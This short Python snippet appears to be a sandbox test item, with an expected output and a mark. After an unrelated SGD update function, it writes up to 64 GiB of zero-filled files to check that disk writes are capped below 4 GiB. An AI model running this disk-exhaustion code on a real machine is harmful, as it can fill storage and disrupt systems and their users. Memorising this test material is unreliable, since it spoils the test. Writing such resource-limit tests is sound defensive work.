# shows: written True
# mark: 10
# Fills the disk.
def sgd(params, lr, batch_size):
    with torch.no_grad():
        for p in params:
            p -= lr * p.grad / batch_size
# %% end
written = 0
try:
    for number in range(64):
        with open(f"big{number}", "wb") as file:
            for _ in range(64):
                written += file.write(bytes(2**24))
except OSError:
    pass
print("written", written < 2**32)
